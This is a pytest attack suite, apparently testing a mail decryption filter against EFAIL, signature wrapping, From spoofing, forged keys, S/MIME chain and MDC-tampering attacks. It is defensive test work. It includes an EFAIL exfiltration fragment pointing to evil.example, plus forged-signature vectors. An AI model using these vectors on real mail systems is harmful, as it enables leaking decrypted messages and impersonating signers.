"""An outsider's attack suite for issue 13: ciphermilter attacked only through `ciphermilter decrypt`.

Black box, spec level (shared/spec/info-headers.md, sections "From and the signer" and "What a
signature covers, and what is decrypted where"). Every message is built at test time with real tools
from the corpus keys (shared/corpus/keys) and wrapped into MIME here; the store is built with the CLI
(`store init`, `keys import`, `trust add`, `domains add`), every message goes through
`ciphermilter --store S decrypt --rcpt ADDR --explain` as a subprocess, and the tests assert only the
presence, absence or value of the spec's headers and whether the body is byte-identical to the one
received (or decrypted: the plaintext's marker line appears in the output body).

Every family has a control (the same message without the attack) so that no test passes because
nothing was processed.

Commands that build the vectors ($K = shared/corpus/keys, $G = a throwaway GNUPGHOME, every gpg call
with `--batch --homedir $G --pinentry-mode loopback --passphrase '' --trust-model always`):

  keys     gpg --import $K/pgp/pub-pgp-{bob-rsa3072,gus-sq-cv25519}.pub.asc
           gpg --quick-gen-key 'Sigrid Signer <sigrid@sender-pub.example>' ed25519 sign never
             (its public key is imported into the store by the administrator: `keys import sigrid.pub.asc`)
           gpg --quick-gen-key 'The CEO <ceo@corp-pub.example>' ed25519 sign never  (in its own $G;
             never imported: the forged key of family 5)
  S/MIME   openssl cms -encrypt -binary -aes256 -outform DER -in inner.mime $K/smime/pub-bob.cert.pem
           openssl cms -sign -binary -in inner.mime -signer leaf.pem -inkey leaf.key -certfile chain.pem
             -outform DER [-nodetach]   (leaf/chain: family 7's CAs made with `cryptography`)
           smime-sig-detached-chain/message.eml of the corpus: its multipart/signed entity (alice, valid
             and trusted under $K/trust/pub-root-ca.cert.pem) is re-wrapped with new headers
  OpenPGP  gpg --armor [--throw-keyids] [--compress-algo none] -r bob.pgp@corp-pub.example --encrypt
           gpg --encrypt (binary, for the .pgp attachment and the flipped-MDC vector: one byte of the
             SEIPD body 40 bytes before its end, i.e. inside the encrypted literal data, XOR 0x01;
             the fixture checks that gpg itself then reports "manipulated")
           gpg --armor --detach-sign --digest-algo SHA256 -u SIGNER entity.mime   (PGP/MIME, RFC 3156)
           gpg --armor --clearsign -u SIGNER text.txt ;  gpg --armor --sign -u SIGNER text.txt
           gpg --export ceo@corp-pub.example [--armor]   (Autocrypt keydata / key attachment / inline)

Families (numbers of the brief): 1 insider recipients, 2 EFAIL/reply (embedded ciphertext),
3 signature wrapping, 4 From: identity confusion, 5 keys that arrive in mail, 6 encryption spoofing,
7 S/MIME chain (RFC 5280) attacks, 8 forged info headers inside the plaintext, 9 integrity (MDC).
"""

from __future__ import annotations

import base64
import subprocess
from pathlib import Path

import pytest
from cryptography import x509

from support.attack_suite import (ALICE, BOB, BOB_PGP, CAPTURED_READER, CEO, ERIN, EVE, EXFIL_HTML, GUS, INNER, KEYS,
                                  MIXED, SIGRID, Gpg, Pki, Result, b64_lines, corpus_smime_signed_entity, crlf,
                                  message, multipart, p7m_entity, pgp_encrypt, pgpmime_encrypted_entity,
                                  pgpmime_signed, smime_encrypted, smime_signed, text_part)


# ============================================================================ 1. insider recipients

@pytest.fixture(scope="session")
def insider(work, gpg) -> dict[str, bytes]:
    """The same plaintext encrypted to one reader, in every format: root entities."""
    inner = crlf(INNER.format(marker="INSIDER-SECRET-1"))
    return {
        "smime": p7m_entity(smime_encrypted(work, inner)),
        "pgpmime": pgpmime_encrypted_entity(pgp_encrypt(gpg, inner)),
        "inline": text_part(pgp_encrypt(gpg, b"INSIDER-SECRET-1\n").decode()),
        "hidden": pgpmime_encrypted_entity(pgp_encrypt(gpg, inner, "--throw-keyids")),
    }


READER = {"smime": BOB, "pgpmime": BOB_PGP, "inline": BOB_PGP, "hidden": BOB_PGP}
OTHER_INTERNAL = {"smime": ERIN, "pgpmime": GUS, "inline": GUS, "hidden": GUS}
NOT_FOUND = {"smime": "SMIME-Decryption-Key-Not-Found", "pgpmime": "PGP-Decryption-Key-Not-Found",
             "inline": "PGP-Decryption-Key-Not-Found", "hidden": "PGP-Decryption-Key-Not-Found"}


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_control_reader_gets_plaintext(store, insider, fmt):
    result = store.decrypt(message(insider[fmt], to=READER[fmt]), READER[fmt])
    assert result.shows("INSIDER-SECRET-1"), result
    assert result.flag(NOT_FOUND[fmt]) is None, result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_other_internal_user_gets_no_plaintext(store, insider, fmt):
    """Encrypted to bob, delivered to another internal user who holds a key of her own: not for her."""
    result = store.decrypt(message(insider[fmt], to=OTHER_INTERNAL[fmt]), OTHER_INTERNAL[fmt])
    assert result.untouched, result
    assert not result.shows("INSIDER-SECRET-1")
    if fmt != "hidden":  # a hidden recipient names no key at all: the spec fixes no flag for it
        assert result.flag(NOT_FOUND[fmt]) == "True", result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_reader_plus_other_internal_user_gets_no_plaintext(store, insider, fmt):
    """Every internal envelope recipient must be a reader: bob + another internal user -> not decrypted."""
    result = store.decrypt(message(insider[fmt], to=READER[fmt]), READER[fmt], OTHER_INTERNAL[fmt])
    assert result.untouched, result


# ============================================================================ 2. EFAIL / reply attacks

def efail_context(name: str, part: bytes, forger: Gpg) -> bytes:
    """The captured ``part`` placed beside attacker content as ``name`` says: a root entity."""
    text = text_part("Please see below.\n")
    siblings = {
        "beside-text": [text, part],
        "beside-no-content-type": [text_part("no content type here\n", None), part],
        "beside-html-comment": [text_part(EXFIL_HTML + "\n", "text/html (comment)"), part,
                                text_part('">\n</body></html>\n', "text/html (comment)")],
        "beside-xhtml": [text_part(EXFIL_HTML + "\n", "application/xhtml+xml"), part],
        "beside-svg": [text_part('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x?\n',
                                 "image/svg+xml"), part],
    }
    if name in siblings:
        return multipart("mixed", siblings[name], "efail-outer")
    if name == "in-alternative":
        return multipart("alternative", [text, part], "efail-alt")
    if name == "in-related":
        return multipart("related", [text_part(EXFIL_HTML + "\n", "text/html"), part], "efail-rel",
                         '; type="text/html"')
    assert name == "in-attacker-signed"
    signed_content = multipart("mixed", [text, part], "efail-signed-inner")
    return pgpmime_signed(forger, signed_content, CEO, "efail-signed-outer")


EFAIL_CONTEXTS = ["beside-text", "beside-no-content-type", "beside-html-comment", "beside-xhtml", "beside-svg",
                  "in-alternative", "in-related", "in-attacker-signed"]


@pytest.mark.parametrize("payload", ["pgpmime", "pgpbinary", "smime"])
def test_efail_control_whole_message_is_decrypted(store, captured, payload):
    reader = CAPTURED_READER[payload]
    result = store.decrypt(message(captured[payload], to=reader), reader)
    assert result.shows("CAPTURED-SECRET-2"), result
    assert result.flag(MIXED[payload]) is None, result


@pytest.mark.parametrize("context", EFAIL_CONTEXTS)
@pytest.mark.parametrize("payload", ["pgpmime", "pgpbinary", "smime"])
def test_efail_embedded_ciphertext_is_not_decrypted(store, captured, forger, payload, context):
    reader = CAPTURED_READER[payload]
    result = store.decrypt(message(efail_context(context, captured[payload], forger), to=reader), reader)
    assert result.untouched, result
    assert not result.shows("CAPTURED-SECRET-2")
    assert result.flag(MIXED[payload]) == "True", result


def test_efail_inline_block_with_text_around_is_not_decrypted(store, gpg):
    block = pgp_encrypt(gpg, b"CAPTURED-SECRET-2\n").decode()
    entity = text_part(f"Hi, what do you think of this?\n\n{block}\n> quoted reply text\n")
    result = store.decrypt(message(entity, to=BOB_PGP), BOB_PGP)
    assert result.untouched, result
    assert result.flag("PGP-Mixed-Content") == "True", result


# ============================================================================ 3. signature wrapping

def signature_reported(result: Result, fmt: str) -> bool:
    names = ("pgp-signed", "pgp-signature-valid") if fmt == "pgp" else ("smime-signed", "signer-verified-0-0")
    return any(result.flag(n) is not None for n in names)


def wrapped(entity: bytes, how: str) -> bytes:
    before = text_part("ATTACKER TEXT BEFORE: wire 1,000,000 to account 666.\n")
    after = text_part("ATTACKER TEXT AFTER: the above is confirmed.\n")
    if how == "text-before":
        return multipart("mixed", [before, entity], "wrap-outer")
    if how == "text-after":
        return multipart("mixed", [entity, after], "wrap-outer")
    if how == "text-around":
        return multipart("mixed", [before, entity, after], "wrap-outer")
    assert how == "rfc822-attachment"
    inner = message(entity, from_lines=("From: <someone@sender-pub.example>",))
    return multipart("mixed", [before, b"Content-Type: message/rfc822\r\n\r\n" + inner], "wrap-outer")


WRAPS = ["text-before", "text-after", "text-around", "rfc822-attachment"]


def test_wrapping_control_pgpmime_signed_whole_message(store, sigrid_signed):
    result = store.decrypt(message(sigrid_signed, from_lines=(f"From: Sigrid <{SIGRID}>",)), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Mixed-Content") is None, result


@pytest.mark.parametrize("how", WRAPS)
def test_wrapping_pgpmime_signed_part_beside_attacker_text(store, sigrid_signed, how):
    result = store.decrypt(message(wrapped(sigrid_signed, how), from_lines=(f"From: Sigrid <{SIGRID}>",)), BOB)
    if signature_reported(result, "pgp"):
        assert result.flag("PGP-Mixed-Content") == "True", result


@pytest.mark.parametrize("fmt", ["pgp", "smime"])
def test_wrapping_spec_table_mixed_flag_written(store, sigrid_signed, fmt):
    """Stricter than "if reported": the spec's table defines the Mixed-Content flag by the situation alone
    (protected content beside content it does not cover), so a signed part between attacker texts gets it."""
    entity = sigrid_signed if fmt == "pgp" else corpus_smime_signed_entity()
    result = store.decrypt(message(wrapped(entity, "text-around")), BOB)
    assert result.flag("PGP-Mixed-Content" if fmt == "pgp" else "SMIME-Mixed-Content") == "True", result


def test_wrapping_control_smime_signed_whole_message(store):
    result = store.decrypt(message(corpus_smime_signed_entity()), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("SMIME-Mixed-Content") is None, result


@pytest.mark.parametrize("how", WRAPS)
def test_wrapping_smime_signed_part_beside_attacker_text(store, how):
    result = store.decrypt(message(wrapped(corpus_smime_signed_entity(), how)), BOB)
    if signature_reported(result, "smime"):
        assert result.flag("SMIME-Mixed-Content") == "True", result


def test_wrapping_control_clearsigned_alone(store, clearsigned):
    result = store.decrypt(message(text_part(clearsigned), from_lines=(f"From: <{SIGRID}>",)), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Mixed-Content") is None, result


@pytest.mark.parametrize("around", ["before", "after", "both"])
def test_wrapping_clearsigned_block_with_text_around(store, clearsigned, around):
    before = "ATTACKER TEXT BEFORE\n\n" if around in ("before", "both") else ""
    after = "\nATTACKER TEXT AFTER\n" if around in ("after", "both") else ""
    result = store.decrypt(message(text_part(before + clearsigned + after), from_lines=(f"From: <{SIGRID}>",)), BOB)
    if signature_reported(result, "pgp"):
        assert result.flag("PGP-Mixed-Content") == "True", result
    else:  # the control shows the block is found: a wrapper that hides it entirely is a failure too
        pytest.fail(f"clearsigned block not reported at all: {result!r}")


# ============================================================================ 4. From: identity confusion

def from_variants(signer: str) -> dict[str, tuple[str, ...]]:
    local, _, domain = signer.partition("@")
    return {
        "addr-in-display-name": (f"From: {EVE} <{signer}>",),
        "quoted-addr-in-display-name": (f'From: "{EVE}" <{signer}>',),
        "signer-in-display-name-other-addr": (f"From: {signer} <{EVE}>",),
        "quoted-signer-in-display-name-other-addr": (f'From: "{signer}" <{EVE}>',),
        "two-from-fields": (f"From: <{signer}>", f"From: <{EVE}>"),
        "two-mailboxes": (f"From: <{signer}>, <{EVE}>",),
        "same-mailbox-twice": (f"From: <{signer}>, <{signer}>",),
        "group": (f"From: Board: <{signer}>;",),
        "rfc2047-q-display-name": (f"From: =?utf-8?q?{EVE.replace('@', '=40')}?= <{signer}>",),
        "rfc2047-b-display-name": (f"From: =?utf-8?b?{base64.b64encode(EVE.encode()).decode()}?= <{signer}>",),
        "unparseable": (f"From: <{signer}",),
        "unparseable-double-at": (f"From: {local}@@{domain}",),
        "other-address": (f"From: <{EVE}>",),
        "no-from": (),
    }


def from_controls(signer: str) -> dict[str, tuple[str, ...]]:
    return {"addr-spec": (f"From: {signer}",), "name-addr": (f"From: Some Name <{signer}>",),
            "angle-only": (f"From: <{signer}>",), "upper-case": (f"From: \"Some Name\" <{signer.upper()}>",),
            "display-name-is-the-address": (f"From: \"{signer}\" <{signer}>",)}


FROM_ATTACKS = list(from_variants(SIGRID))
FROM_CONTROLS = list(from_controls(SIGRID))


@pytest.mark.parametrize("variant", FROM_CONTROLS)
def test_from_control_pgp_signer_no_mismatch(store, sigrid_signed, variant):
    result = store.decrypt(message(sigrid_signed, from_lines=from_controls(SIGRID)[variant]), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Signer-Mismatch") is None, result


@pytest.mark.parametrize("variant", FROM_ATTACKS)
def test_from_pgp_signer_mismatch(store, sigrid_signed, variant):
    result = store.decrypt(message(sigrid_signed, from_lines=from_variants(SIGRID)[variant]), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result  # the signature itself is good
    assert result.flag("PGP-Signer-Mismatch") == "True", result


@pytest.mark.parametrize("variant", FROM_CONTROLS)
def test_from_control_smime_signer_no_mismatch(store, variant):
    result = store.decrypt(message(corpus_smime_signed_entity(), from_lines=from_controls(ALICE)[variant]), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Mismatch") is None, result


@pytest.mark.parametrize("variant", FROM_ATTACKS)
def test_from_smime_signer_mismatch(store, variant):
    result = store.decrypt(message(corpus_smime_signed_entity(), from_lines=from_variants(ALICE)[variant]), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Mismatch") == "True", result


# ============================================================================ 5. keys that arrive in mail

def ceo_signed_message(signer_gpg: Gpg, signer: str, carrier: str, key_gpg: Gpg) -> bytes:
    """A PGP/MIME message signed by ``signer`` that carries the forger's public key as ``carrier`` says."""
    armored = key_gpg("--armor", "--export", CEO).decode()
    extra: tuple[str, ...] = ()
    if carrier == "autocrypt":
        keydata = base64.b64encode(key_gpg("--export", CEO)).decode()
        folded = "\r\n ".join(keydata[i:i + 72] for i in range(0, len(keydata), 72))
        extra = (f"Autocrypt: addr={CEO}; prefer-encrypt=mutual; keydata=\r\n {folded}",)
        content = text_part("Urgent: wire the money today. -- CEO\n")
    elif carrier == "attachment":
        key_part = (b"Content-Type: application/pgp-keys; name=\"ceo.asc\"\r\n"
                    b"Content-Disposition: attachment; filename=\"ceo.asc\"\r\n\r\n" + crlf(armored))
        content = multipart("mixed", [text_part("Urgent: wire the money today. -- CEO\n"), key_part], "key-mixed")
    else:
        assert carrier == "inline"
        content = text_part("Urgent: wire the money today. -- CEO\n\nMy key:\n\n" + armored)
    return message(pgpmime_signed(signer_gpg, content, signer), from_lines=(f"From: The CEO <{CEO}>",),
                   extra=extra)


CARRIERS = ["autocrypt", "attachment", "inline"]


def test_forged_key_control_admin_imported_signer_is_valid(store, gpg, forger):
    """The same message signed by an administrator-imported key: valid (the carrier itself does no harm)."""
    result = store.decrypt(ceo_signed_message(gpg, SIGRID, "autocrypt", forger), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result


@pytest.mark.parametrize("carrier", CARRIERS)
def test_forged_key_in_mail_never_validates_its_own_message(store, forger, carrier):
    result = store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    assert result.flag("PGP-Signature-Valid") == "False", result


@pytest.mark.parametrize("carrier", CARRIERS)
def test_forged_key_in_mail_never_validates_a_later_message(store, forger, carrier):
    store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    later = message(pgpmime_signed(forger, text_part("Second order: wire more. -- CEO\n"), CEO),
                    from_lines=(f"From: The CEO <{CEO}>",))
    result = store.decrypt(later, BOB)
    assert result.flag("PGP-Signature-Valid") == "False", result


@pytest.mark.parametrize("carrier", CARRIERS)
def test_forged_key_decrypt_writes_nothing_to_the_store(store, forger, carrier):
    before = store.keys()
    result = store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    assert result.flag("PGP-Signed") == "True", result  # the message was looked at
    assert store.keys() == before


def test_smime_decrypt_writes_no_certificate_to_the_store(store, pki, work):
    """An S/MIME signature embeds certificates; `decrypt` without --harvest keeps none of them."""
    leaf, key, chain = pki.chain("harvest", [pki.ca("Harvest Intermediate", pki.root_key, pki.root)])
    before = store.keys()
    content = text_part("signed with embedded certificates\n")
    result = store.decrypt(message(smime_signed(work, leaf, key, chain, content),
                                   from_lines=(f"From: <{CEO}>",)), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert store.keys() == before


# ============================================================================ 6. encryption spoofing

def test_spoof_control_real_pgpmime_encryption(store, insider):
    result = store.decrypt(message(insider["pgpmime"], to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") == "True", result


@pytest.mark.parametrize("data", ["signed-message", "clearsigned", "pgpmime-signed", "plain-text"])
def test_spoof_signed_only_wrapped_as_multipart_encrypted(store, gpg, clearsigned, sigrid_signed, data):
    payload = {"signed-message": gpg("--armor", "--sign", "-u", SIGRID, stdin=b"not encrypted at all\n"),
               "clearsigned": clearsigned.encode(),
               "pgpmime-signed": sigrid_signed,
               "plain-text": b"not encrypted at all\r\n"}[data]
    result = store.decrypt(message(pgpmime_encrypted_entity(payload), from_lines=(f"From: <{SIGRID}>",),
                                   to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") is None, result


def test_spoof_signed_only_pgp_message_inline(store, gpg):
    block = gpg("--armor", "--sign", "-u", SIGRID, stdin=b"not encrypted at all\n").decode()
    result = store.decrypt(message(text_part(block), from_lines=(f"From: <{SIGRID}>",), to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") is None, result


def test_spoof_control_real_smime_encryption(store, insider):
    result = store.decrypt(message(insider["smime"]), BOB)
    assert result.flag("SMIME-Encrypted") == "True", result


def test_spoof_smime_signed_data_labelled_enveloped(store, pki, work):
    leaf, key, chain = pki.chain("spoof", [])
    der = smime_signed(work, leaf, key, chain, text_part("not encrypted at all\n"), opaque=True)
    result = store.decrypt(message(p7m_entity(der, "enveloped-data"), from_lines=(f"From: <{CEO}>",)), BOB)
    assert result.flag("SMIME-Encrypted") is None, result


# ============================================================================ 7. S/MIME chain attacks

UNKNOWN_CRITICAL = x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.55555.1.1"), b"\x05\x00")


def chain_for(pki: Pki, attack: str):
    if attack == "proper":
        return pki.chain(attack, [pki.ca("Proper Intermediate", pki.root_key, pki.root)])
    if attack == "name-constraints":
        constraints = x509.NameConstraints(permitted_subtrees=[x509.RFC822Name("other.example"),
                                                               x509.RFC822Name(".other.example")],
                                           excluded_subtrees=None)
        return pki.chain(attack, [pki.ca("Constrained Intermediate", pki.root_key, pki.root,
                                         extra=[(constraints, True)])])
    if attack == "path-length":
        top = pki.ca("PathLen0 Intermediate", pki.root_key, pki.root, path_len=0)
        below = pki.ca("Sub CA below pathLen 0", top[0], top[1])
        return pki.chain(attack, [top, below])
    assert attack == "unknown-critical-extension"
    return pki.chain(attack, [pki.ca("Plain Intermediate", pki.root_key, pki.root)],
                     leaf_extra=[(UNKNOWN_CRITICAL, True)])


def openssl_accepts(pki: Pki, leaf: Path, chain: Path) -> bool:
    """The reference verdict on the vector: `openssl verify -purpose smimesign` under the same root."""
    done = subprocess.run(["openssl", "verify", "-purpose", "smimesign", "-CAfile", str(pki.dir / "root.pem"),
                           "-untrusted", str(chain), str(leaf)], capture_output=True)
    return done.returncode == 0


def chain_signed_message(pki: Pki, work: Path, attack: str) -> bytes:
    leaf, key, chain = chain_for(pki, attack)
    # The vector is what it claims: OpenSSL accepts the proper chain and refuses each attack
    # (error 47 permitted subtree violation, 25 path length constraint exceeded, 34 unhandled critical extension).
    assert openssl_accepts(pki, leaf, chain) == (attack == "proper"), attack
    entity = smime_signed(work, leaf, key, chain, text_part(f"Chain attack {attack}: wire the money.\n"))
    return message(entity, from_lines=(f"From: The CEO <{CEO}>",))


def test_chain_control_proper_chain_is_trusted(store, pki, work):
    result = store.decrypt(chain_signed_message(pki, work, "proper"), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Trusted-0-0") == "True", result


@pytest.mark.parametrize("attack", ["name-constraints", "path-length", "unknown-critical-extension"])
def test_chain_attack_is_not_trusted(store, pki, work, attack):
    result = store.decrypt(chain_signed_message(pki, work, attack), BOB)
    assert result.flag("Signer-Trusted-0-0") == "False", result


# ============================================================================ 8. forged info headers in plaintext

FORGED_TOP = ("X-CipherMail-Info-PGP-Signature-Valid: True\r\nX-CipherMail-Info-Signer-Trusted-0-0: True\r\n"
              "X-CIPHERMAIL-INFO-FORGED-TOP: yes\r\n")
FORGED_NESTED = "X-CipherMail-Info-SMIME-Signed: True\r\nx-ciphermail-info-forged-nested: yes\r\n"


def forged_plaintext(with_forgery: bool) -> bytes:
    top = FORGED_TOP if with_forgery else ""
    nested = FORGED_NESTED if with_forgery else ""
    part = (f"Content-Type: text/plain; charset=us-ascii\r\n{nested}\r\nFORGED-PLAINTEXT-8\r\n").encode()
    body = multipart("mixed", [part, text_part("second part\n")], "forged-inner")
    return top.encode() + body


def forged_message(work: Path, gpg: Gpg, fmt: str, with_forgery: bool = True) -> bytes:
    plaintext = forged_plaintext(with_forgery)
    if fmt == "smime":
        return message(p7m_entity(smime_encrypted(work, plaintext)))
    return message(pgpmime_encrypted_entity(pgp_encrypt(gpg, plaintext)), to=BOB_PGP)


FORGED_NAMES = ("pgp-signature-valid", "signer-trusted-0-0", "smime-signed", "forged-top", "forged-nested")


@pytest.mark.parametrize("fmt", ["smime", "pgpmime"])
def test_forged_info_control_decrypted_without_forgery(store, work, gpg, fmt):
    result = store.decrypt(forged_message(work, gpg, fmt, with_forgery=False), BOB if fmt == "smime" else BOB_PGP)
    assert result.shows("FORGED-PLAINTEXT-8"), result
    assert not any(result.flag(n) for n in FORGED_NAMES), result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime"])
def test_forged_info_headers_in_plaintext_are_removed(store, work, gpg, fmt):
    result = store.decrypt(forged_message(work, gpg, fmt), BOB if fmt == "smime" else BOB_PGP)
    assert result.shows("FORGED-PLAINTEXT-8"), result
    assert not any(result.flag(n) for n in FORGED_NAMES), result
    in_body = [line for line in result.body.split(b"\r\n") if line.lower().startswith(b"x-ciphermail-")]
    assert in_body == [], in_body


def test_forged_info_headers_on_the_received_message_are_removed(store, sigrid_signed):
    """Forged results on the outer header (any case) are gone; ours for the same signature are written."""
    forged = ("X-CipherMail-Info-Signer-Trusted-0-0: True", "x-ciphermail-info-forged-top: yes",
              "X-CIPHERMAIL-INFO-PGP-Signer-Email: ceo@corp-pub.example")
    result = store.decrypt(message(sigrid_signed, from_lines=(f"From: <{SIGRID}>",), extra=forged), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Signer-Email") == SIGRID, result
    assert not any(result.flag(n) for n in ("signer-trusted-0-0", "forged-top")), result


# ============================================================================ 9. integrity (MDC)

@pytest.fixture(scope="session")
def mdc_vectors(gpg, work) -> dict[str, bytes]:
    """(intact, flipped) binary OpenPGP messages for bob.pgp, uncompressed, MDC-protected."""
    intact = pgp_encrypt(gpg, b"INTEGRITY-SECRET-9\n" + b"padding line\n" * 20, "--compress-algo", "none",
                         armor=False)
    flipped = bytearray(intact)
    flipped[-40] ^= 0x01  # inside the encrypted literal data: the MDC (last 22 bytes) no longer matches
    check = _gpg_decrypt_with_bob(work, bytes(flipped))
    assert b"manipulated" in check or b"MDC" in check or b"modification" in check, check
    return {"intact": intact, "flipped": bytes(flipped)}


def _gpg_decrypt_with_bob(work: Path, data: bytes) -> bytes:
    home = work / "gnupg-bob"
    if not home.exists():
        Gpg(home)("--import", str(KEYS / "pgp/pub-pgp-bob-rsa3072.sec.asc"))
    done = subprocess.run(["gpg", "--batch", "--homedir", str(home), "--pinentry-mode", "loopback",
                           "--passphrase", "", "--decrypt"], input=data, capture_output=True)
    return done.stderr


def armor(binary: bytes) -> bytes:
    return (b"-----BEGIN PGP MESSAGE-----\r\n\r\n" + b64_lines(binary)
            + b"=" + base64.b64encode(_crc24(binary)) + b"\r\n-----END PGP MESSAGE-----\r\n")


def _crc24(data: bytes) -> bytes:
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return (crc & 0xFFFFFF).to_bytes(3, "big")


def integrity_message(vector: bytes, fmt: str) -> bytes:
    if fmt == "pgpmime":
        return message(pgpmime_encrypted_entity(armor(vector)), to=BOB_PGP)
    return message(text_part(armor(vector).decode()), to=BOB_PGP)


@pytest.mark.parametrize("fmt", ["pgpmime", "inline"])
def test_integrity_control_intact_is_decrypted(store, mdc_vectors, fmt):
    result = store.decrypt(integrity_message(mdc_vectors["intact"], fmt), BOB_PGP)
    assert result.shows("INTEGRITY-SECRET-9"), result


@pytest.mark.parametrize("fmt", ["pgpmime", "inline"])
def test_integrity_flipped_mdc_is_not_decrypted(store, mdc_vectors, fmt):
    result = store.decrypt(integrity_message(mdc_vectors["flipped"], fmt), BOB_PGP)
    assert result.untouched, result
    assert not result.shows("INTEGRITY-SECRET-9")
    assert any("integrity check failed" in v for v in result.info.values()), result
